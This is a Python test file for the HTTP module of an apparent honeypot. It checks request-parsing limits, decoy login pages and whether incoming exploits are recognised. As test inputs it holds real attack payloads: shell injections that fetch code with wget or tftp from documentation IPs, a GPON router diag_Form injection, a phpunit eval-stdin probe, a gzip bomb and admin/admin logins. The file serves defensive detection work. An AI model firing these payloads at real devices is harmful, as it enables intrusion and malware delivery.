"""HTTP: the dialogue, every limit and one past it, what is smuggled, and that no two sensors look alike."""
# ruff: noqa: E501 -- a request is a line

from __future__ import annotations

import base64
import gzip

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised, LoginTried, RequestReceived
from eudaemon.protocols._base import Claim, HalfClosed
from eudaemon.protocols._http import BadRequestError, HttpLimits, Request, RequestReader, looks_like_http
from eudaemon.protocols.http import Http, room
from eudaemon.protocols.http.persona import PRODUCTS, Persona, http_date, persona_of
from eudaemon.testing.script import START_S, Table, play, visit
from eudaemon.wire import Purse
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed

SMALL = HttpLimits(line_bytes_max=40, head_bytes_max=100, headers_max=3, body_bytes_max=20, chunk_line_bytes_max=8,
                   unread_bytes_max=500, requests_max=3)  # fmt: skip


def read(data: bytes, *, split: int = 0, limits: HttpLimits = SMALL, bytes_max: int = 10_000) -> list[Request]:
    """Return all requests in `data`; raises what the reader raises."""
    purse = Purse(bytes_max)
    reader, found = RequestReader(purse, limits), []
    for start in range(0, len(data), split or max(1, len(data))):
        reader.feed(data[start : start + split] if split else data)
        while item := reader.next():
            if isinstance(item, Request):
                found.append(item)
    reader.close()
    assert purse.bytes_taken == 0
    return found


def host_like(what: str, value: object) -> Host:
    """Return the first host whose web server has that."""
    hosts = (Host.from_seed(Seed(b"%d" % number)) for number in range(2000))
    return next(host for host in hosts if getattr(persona_of(host), what) == value)


KEEPS_ALIVE = next(product for product in PRODUCTS if product.keeps_alive)


def table(host: Host | None = None) -> Table:
    return Table(Http(visit(host=host))).open()


def facts(talk: Table, kind: type) -> list[object]:
    return [fact for fact in talk.facts if isinstance(fact, kind)]


# --- reading -------------------------------------------------------------------------------------

SOUND = [
    (b"GET / HTTP/1.1\r\n\r\n", b"/", b""),
    (b"\r\n\r\nGET /a?b=c HTTP/1.0\nA: b\n\n", b"/a?b=c", b""),  # bare LF, empty lines before
    (b"GET /a b  c HTTP/1.1\r\n\r\n", b"/a b  c", b""),
    (b"POST / HTTP/1.1\r\nContent-Length: 3\r\n\r\nabc", b"/", b"abc"),
    (b"POST / HTTP/1.1\r\nContent-Length: 3, 3\r\ncontent-length:3\r\n\r\nabc", b"/", b"abc"),
    (b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nab\r\n1;x=y\r\nc\r\n0\r\nT: u\r\n\r\n", b"/", b"abc"),
    (b"GET / HTTP/1.1\r\nA: b\r\n c\r\n\td\r\n\r\n", b"/", b""),
    (b"GET http://a/b HTTP/1.1\r\n\r\n", b"http://a/b", b""),
    (b"GET / HTTP/1.1\r\nno header at all\r\n\r\n", b"/", b""),
]


@pytest.mark.parametrize("split", [0, 1, 2, 7])
@pytest.mark.parametrize(("data", "target", "body"), SOUND)
def test_sound_requests_in_any_pieces(data: bytes, target: bytes, body: bytes, split: int) -> None:
    first, second = read(data + b"GET /2 HTTP/1.1\r\n\r\n", split=split, limits=HttpLimits())
    assert (first.target, first.body, second.target) == (target, body, b"/2")


@pytest.mark.parametrize("split", [0, 1])
@pytest.mark.parametrize(
    ("data", "status"),
    [
        (b"\x16\x03\x01\x00\xa5\r\n", 400),
        (b"GET\r\n", 400),
        (b"GET /\r\n", 400),
        (b"GE(T / HTTP/1.1\r\n", 400),
        (b"GET / HTTP/11\r\n", 400),
        (b"GET / HTTP/a.b\r\n", 400),
        (b"GET / HTTP/2.0\r\n", 505),
        (b"GET / HTTP/1.1\r\nA : b\r\n", 400),
        (b"GET / HTTP/1.1\r\nA: b\0\r\n", 400),
        (b"POST / HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n", 400),
        (b"POST / HTTP/1.1\r\nContent-Length: +1\r\n\r\n", 400),
        (b"POST / HTTP/1.1\r\nContent-Length: -1\r\n\r\n", 400),
        (b"POST / HTTP/1.1\r\nContent-Length:\r\n\r\n", 400),
        (b"POST / HTTP/1.1\r\nContent-Length: 1" + b"0" * 18 + b"\r\n\r\n", 400),
        (b"POST / HTTP/1.1\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n", 400),
        (b"POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n", 400),
        (b"POST / HTTP/1.1\r\nTransfer-Encoding: gzip, chunked\r\n\r\n", 501),
        (b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n", 501),
        (b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0x1\r\n", 400),
        (b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n", 400),
        (b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n\r\n", 400),
        (b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nab\r\n", 400),
    ],
)
def test_what_no_server_serves(data: bytes, status: int, split: int) -> None:
    with pytest.raises(BadRequestError) as caught:
        read(data, split=split, limits=HttpLimits())
    assert caught.value.status == status


def post(body: bytes, declared: int | None = None) -> bytes:
    return b"POST / HTTP/1.1\r\nContent-Length: %d\r\n\r\n%b" % (len(body) if declared is None else declared, body)


@pytest.mark.parametrize("split", [0, 1])
@pytest.mark.parametrize(
    ("most", "too_much", "status"),
    [
        (b"GET /".ljust(31, b"a") + b" HTTP/1.1\r\n\r\n", b"GET /".ljust(32, b"a") + b" HTTP/1.1\r\n\r\n", 414),
        (b"GET / HTTP/1.1\r\nA: ".ljust(56, b"a") + b"\r\n\r\n", b"GET / HTTP/1.1\r\nA: ".ljust(57, b"a") + b"\r\n\r\n", 431),
        (b"GET / HTTP/1.1\r\n" + b"a: b\r\n" * 3 + b"\r\n", b"GET / HTTP/1.1\r\n" + b"a: b\r\n" * 4 + b"\r\n", 431),
        (b"GET / HTTP/1.1\r\n" + b"a" * 38 + b"\r\n" + b"b" * 40 + b"\r\n\r\n",
         b"GET / HTTP/1.1\r\n" + b"a" * 39 + b"\r\n" + b"b" * 40 + b"\r\n\r\n", 431),
        (post(b"a" * 20), post(b"a" * 21), 413),
        (b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n14\r\n" + b"a" * 20 + b"\r\n0\r\n\r\n",
         b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n14\r\n" + b"a" * 20 + b"\r\n1\r\n", 413),
        (b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n00000001\r\na\r\n0\r\n\r\n",
         b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n000000001\r\n", 400),
        (b"GET / HTTP/1.1\r\n\r\n" * 3, b"GET / HTTP/1.1\r\n\r\n" * 4, 503),
    ],
)  # fmt: skip
def test_every_limit_and_one_past_it(most: bytes, too_much: bytes, status: int, split: int) -> None:
    assert read(most, split=split)
    with pytest.raises(BadRequestError) as caught:
        read(too_much, split=split)
    assert caught.value.status == status


def test_what_is_held_is_taken_from_the_purse() -> None:
    body = post(b"a" * 20)
    assert read(body, bytes_max=len(body))
    with pytest.raises(BadRequestError, match="held"):
        read(body, bytes_max=len(body) - 1)


@given(st.lists(st.binary(min_size=1, max_size=30), max_size=8), st.integers(1, 9))
def test_a_chunked_body_is_byte_exact(chunks: list[bytes], split: int) -> None:
    data = b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
    data += b"".join(b"%x\r\n%b\r\n" % (len(chunk), chunk) for chunk in chunks) + b"0\r\n\r\n"
    assert [r.body for r in read(data, split=split, limits=HttpLimits())] == [b"".join(chunks)]


@pytest.mark.parametrize("size", [0, 1, 4095, 4096, 4097, 65536, 1_500_000, 10_000_000])
def test_an_upload_is_kept_byte_exact(size: int) -> None:
    content = Seed(b"upload").bytes("content", size)
    talk = table()
    talk.say(b"PUT /tmp/x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n")
    for start in range(0, size, 60_001):
        part = content[start : start + 60_001]
        talk.say(b"%x\r\n%b\r\n" % (len(part), part))
    talk.say(b"0\r\n\r\n")
    assert [(keep.data == content, keep.origin, keep.name) for keep in talk.kept] == [(True, "upload", "/tmp/x")][:size]


def test_the_files_of_a_form_are_kept() -> None:
    body = (b'--XX\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--XX\r\nContent-Disposition: form-data; name="f"; '
            b'filename="x.elf"\r\nContent-Type: application/octet-stream\r\n\r\n\x7fELF\r\n\x00\r\n--XX--\r\n')  # fmt: skip
    talk = table()
    talk.say(b"POST /upload HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=XX\r\nContent-Length: %d\r\n\r\n%b"
             % (len(body), body))  # fmt: skip
    assert [(keep.data, keep.origin, keep.name) for keep in talk.kept] == [(b"\x7fELF\r\n\x00", "upload", "x.elf")]


@pytest.mark.parametrize(
    ("first", "verdict"),
    [
        (b"G", None), (b"GET", None), (b"GET ", None), (b"GET /", True), (b"GET http://a", True), (b"\r\nPOST /", True),
        (b"OPTIONS *", True), (b"CONNECT a:1", True), (b"X", False), (b"GETS", False), (b"GET \x01", False), (b"\x16", False),
        (b"M-SEARCH * HTTP", True), (b"", None),
    ],
)  # fmt: skip
def test_what_looks_like_http(first: bytes, verdict: bool | None) -> None:
    assert looks_like_http(first) is verdict
    assert Http.claim(first) is {None: Claim.UNSURE, True: Claim.YES, False: Claim.NO}[verdict]


# --- answering -----------------------------------------------------------------------------------

DIALOGUE = r"""
> GET /nothing HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: curl/8\r\n\r\n
*
! http.request method='GET' target='/nothing' host='192.0.2.1' user_agent='curl/8' body_bytes=0
> POST /x HTTP/1.1\r\nExpect: 100-continue\r\nContent-Length: 4\r\n\r\n
< HTTP/1.1 100 Continue\r\n\r\n
> a=bc
*
! http.request method='POST' body_bytes=4
> HEAD / HTTP/1.1\r\nConnection: close\r\n\r\n
*
! http.request method='HEAD'
/ over
"""


@pytest.mark.parametrize("split", [0, 1])
def test_a_dialogue(split: int) -> None:
    given = visit(host=host_like("product", KEEPS_ALIVE))
    heard = play(Http, DIALOGUE, split=split, given=given)
    assert heard.sent.endswith(b"\r\n\r\n"), "HEAD gets no body"
    assert heard.sent.count(b"HTTP/1.1 ") == 4


def test_a_product_that_does_not_keep_alive_hangs_up() -> None:
    closes = next(product for product in PRODUCTS if not product.keeps_alive)
    talk = table(host_like("product", closes))
    assert b"Connection: close" in talk.say(b"GET / HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\n\r\n")
    assert talk.over
    assert len(facts(talk, RequestReceived)) == 1


def test_a_bad_request_is_answered_and_is_evidence() -> None:
    talk = table()
    assert b" 400 Bad Request\r\n" in talk.say(b"NONSENSE\r\n")
    assert talk.fault == "request line without target or version"


def basic(user: str, password: str) -> bytes:
    return b"Authorization: Basic " + base64.b64encode(f"{user}:{password}".encode()) + b"\r\n"


def test_basic_logins() -> None:
    host = host_like("asks_basic", True)
    persona = persona_of(host)
    assert f'WWW-Authenticate: Basic realm="{persona.realm}"'.encode() in table(host).say(b"GET / HTTP/1.1\r\n\r\n")
    talk = table(host)
    assert b" 200 OK" in talk.say(b"GET / HTTP/1.1\r\n" + basic("admin", "admin") + b"\r\n")
    assert facts(talk, LoginTried) == [LoginTried("admin", "admin", accepted=True)]
    talk = table(host)
    assert b" 401 " in talk.say(b"GET / HTTP/1.1\r\n" + basic("nobody", "") + b"\r\n")
    assert facts(talk, LoginTried) == [LoginTried("nobody", "", accepted=False)]


def test_form_logins() -> None:
    host = host_like("asks_basic", False)
    persona = persona_of(host)
    assert persona.login_path.encode() in table(host).say(b"GET / HTTP/1.1\r\n\r\n")

    def login(user: str, password: str) -> Table:
        form = f"{persona.user_field}={user}&{persona.password_field}={password}".encode()
        head = f"POST {persona.login_path} HTTP/1.1\r\nContent-Length: {len(form)}\r\n\r\n"
        talk = table(host)
        talk.say(head.encode() + form)
        return talk

    refused = login("nobody", "%20x%26")
    assert facts(refused, LoginTried) == [LoginTried("nobody", " x&", accepted=False)]
    assert b"Login failed" in refused.sent
    accepted = login("admin", "admin")
    assert b" 302 " in accepted.sent
    cookie = accepted.sent.partition(b"Set-Cookie: ")[2].partition(b";")[0]
    inside = table(host).say(b"GET / HTTP/1.1\r\nCookie: %b\r\n\r\n" % cookie)
    assert persona.firmware.encode() in inside
    assert b"<form" not in inside


@pytest.mark.parametrize(
    ("head", "body"),
    [
        (b"Content-Type: application/json", b'{"username": "admin", "password": "admin"}'),
        (b"A: b", b"Frm_Username=admin&Frm_Password=admin"),
        (b"A: b", b"login_name=admin&login_pwd=admin&x=y"),
    ],
)
def test_logins_of_other_products(head: bytes, body: bytes) -> None:
    talk = table()
    talk.say(b"POST /whatever HTTP/1.1\r\n%b\r\nContent-Length: %d\r\n\r\n%b" % (head, len(body), body))
    assert facts(talk, LoginTried) == [LoginTried("admin", "admin", accepted=True)]


def test_the_icon_is_one_and_knows_its_tag() -> None:
    talk = table()
    head, _, icon = talk.say(b"GET /favicon.ico HTTP/1.1\r\n\r\n").partition(b"\r\n\r\n")
    assert icon[:4] == b"\0\0\1\0"
    assert int.from_bytes(icon[14:18], "little") == len(icon) - 22
    tag = head.partition(b"ETag: ")[2].partition(b"\r\n")[0]
    assert b" 304 " in table().say(b"GET /favicon.ico HTTP/1.1\r\nIf-None-Match: %b\r\n\r\n" % tag)


def test_dates() -> None:
    assert http_date(784111777) == "Sun, 06 Nov 1994 08:49:37 GMT"  # the example of RFC 9110 section 5.6.7
    assert http_date(START_S).encode() in table().say(b"GET / HTTP/1.1\r\n\r\n")


def test_no_two_sensors_look_alike() -> None:
    personas = [persona_of(Host.from_seed(Seed(b"sensor %d" % number))) for number in range(60)]
    assert len({persona.product.servers for persona in personas}) == len(PRODUCTS)
    for field in ("model", "etag", "token", "firmware", "colours"):
        assert len({getattr(persona, field) for persona in personas}) > 50, field
    for field in ("server", "login_path", "page_path", "user_field", "cookie", "realm"):
        assert len({getattr(persona, field) for persona in personas}) > 5, field
    pages = [common_words(persona) for persona in personas]
    assert set.intersection(*pages) == set(), "a word that every sensor shows"


def common_words(persona: Persona) -> set[bytes]:
    """Return what of a sensor's answers could tell it, beyond HTTP and HTML themselves."""
    shown = persona.response(START_S, 404, "text/html", persona.error_page(404))
    ordinary = b"HTTP/1.1 404 Not Found Date Content-Length Content-Type text/html Connection close Server".split()
    return {line for line in shown.split(b"\r\n") if line} - set(ordinary) - {
        b"Connection: close", b"Content-Type: text/html", b"Date: " + http_date(START_S).encode(),
    }  # fmt: skip


# --- what goes wrong, and what attackers get wrong -----------------------------------------------


def test_a_compressed_body_is_looked_into() -> None:
    body = gzip.compress(b"a=$(wget http://198.51.100.7/x)")
    talk = table()
    talk.say(b"POST /x HTTP/1.1\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n%b" % (len(body), body))
    assert facts(talk, ExploitRecognised) == [
        ExploitRecognised("shell-injection", "CWE-78", "wget http://198.51.100.7/x")
    ]


@pytest.mark.parametrize("past", [0, 1])
def test_a_gzip_bomb_is_evidence(past: int) -> None:
    body = gzip.compress(bytes(room.INFLATED_BYTES_MAX + past))
    talk = table()
    talk.say(b"POST /x HTTP/1.1\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n%b" % (len(body), body))
    if not past:
        assert b" 404 " in talk.sent
        return
    assert b" 413 " in talk.sent
    assert "compressed body" in talk.fault
    assert [(keep.origin, keep.data) for keep in talk.kept] == [("payload", body)]


CUT = r"""
> POST /GponForm/diag_Form?images/ HTTP/1.1\r\nContent-Length: 999\r\n\r\ndest_host=`wget http://198.51.100.7/x`
~ 7
~ 2
*
! exploit.recognised name='gpon-diag' command='wget http://198.51.100.7/x'
? http://198.51.100.7/x
= ok
/ over
"""

LONGER = r"""
> POST /GponForm/diag_Form?images/ HTTP/1.1\r\nContent-Length: 24\r\n\r\ndest_host=`wget http://198.51.100.7/x`&ipv=0
*
! http.request body_bytes=24
~ 9
! exploit.recognised name='gpon-diag' command='wget http://198.51.100.7/x'
"""


@pytest.mark.parametrize("split", [0, 1])
@pytest.mark.parametrize("script", [CUT, LONGER])
def test_a_body_that_is_not_as_long_as_it_says(script: str, split: int) -> None:
    play(Http, script, split=split, given=visit(host=host_like("product", KEEPS_ALIVE)))


def test_a_request_that_the_end_cuts_is_still_told() -> None:
    talk = table()
    talk.say(b"POST /GponForm/diag_Form HTTP/1.1\r\nContent-Length: 99\r\n\r\ndest_host=`tftp -g -r x 192.0.2.3`")
    talk.end()
    assert facts(talk, ExploitRecognised)
    assert [wish.download.url for wish in talk.wishes] == ["tftp://192.0.2.3/x"]
    assert talk.sent == b""


def test_what_was_written_is_kept_even_if_the_end_is_a_fault() -> None:
    talk = table(host_like("product", KEEPS_ALIVE))
    talk.say(b"GET /x?a=;echo+hello+%3E+/tmp/f HTTP/1.1\r\n\r\n")
    bomb = gzip.compress(bytes(4 * room.INFLATED_BYTES_MAX))
    talk.say(b"POST /x HTTP/1.1\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n%b" % (len(bomb) + 1, bomb))
    talk.end()
    assert "compressed body" in talk.fault
    assert ("/tmp/f", b"hello\n") in [(keep.name, keep.data) for keep in talk.kept]


def test_the_line_stays_open_for_what_a_command_still_fetches() -> None:
    talk = table()
    talk.say(b"GET /x.cgi?a=;wget+http://198.51.100.7/1;wget+http://198.51.100.7/2 HTTP/1.0\r\n\r\n")
    talk.tell(HalfClosed(talk.at_s))
    assert not talk.over
    talk.answer("ok")
    assert [wish.download.url for wish in talk.wishes] == ["http://198.51.100.7/2"]
    talk.answer("failed")
    assert talk.over


def test_output_is_shown_where_the_product_shows_it() -> None:
    talk = table()
    assert talk.say(b"GET /shell?echo+hello HTTP/1.1\r\n\r\n").endswith(b"\r\n\r\nhello\n")
    assert facts(talk, CommandEntered) == [CommandEntered("echo hello")]
    assert b"hello" not in table().say(b"GET /x?a=;echo+hello HTTP/1.1\r\n\r\n")


def test_probes_that_want_a_hash_get_it() -> None:
    probe = b"<?php echo md5('phpunit'); ?>"
    talk = table()
    talk.say(b"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nContent-Length: %d\r\n\r\n%b"
             % (len(probe), probe))  # fmt: skip
    assert talk.sent.endswith(b"85af727fd022d3a13e7972fd6a418582")
    assert [(keep.origin, keep.data) for keep in talk.kept] == [("script", probe)]


def test_ordinary_requests_are_no_exploits() -> None:
    for line in (
        b"GET /?q=rock%20%26%20roll;a=b HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:1) Gecko\r\n",
        b"GET /cgi-bin/luci/;stok=/locale?form=country&operation=read&country=US HTTP/1.1\r\nAccept-Language: en;q=0.5\r\n",
        b"GET /setup.cgi?todo=save HTTP/1.1\r\nCookie: id=5; echo=1; lang=en|de\r\n",
        b"GET /cat?cmd=list HTTP/1.1\r\nReferer: http://a/?x=1;y=2\r\n",
    ):
        talk = table()
        talk.say(line + b"\r\n")
        assert facts(talk, RequestReceived)
        assert facts(talk, ExploitRecognised) == []
